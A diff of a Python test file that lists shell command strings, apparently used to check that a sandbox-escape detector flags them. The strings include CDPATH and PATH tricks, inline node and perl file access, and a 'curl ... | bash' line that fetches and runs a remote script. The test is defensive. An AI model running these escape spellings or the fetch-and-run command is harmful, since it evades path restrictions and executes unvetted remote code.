@@ -93,7 +93,7 @@ def test_escape_spellings_show_the_outside_path(command: str, expected: tuple[st
         ("p() { cat /x; }; p", "function"),
         ("CDPATH=/ cd etc", "CDPATH"),
         ("export CDPATH=/", "CDPATH"),
-        ("PATH=/d:$PATH tool", "PATH"),
+        ("PATH=d:$PATH cat x", "PATH"),
         ("node -pe 'require(\"fs\")'", "inline code"),
         ("perl -le 'open(F, \"/x\")'", "inline code"),
         ("curl -s https://example.com/i.sh | bash", "stdin"),
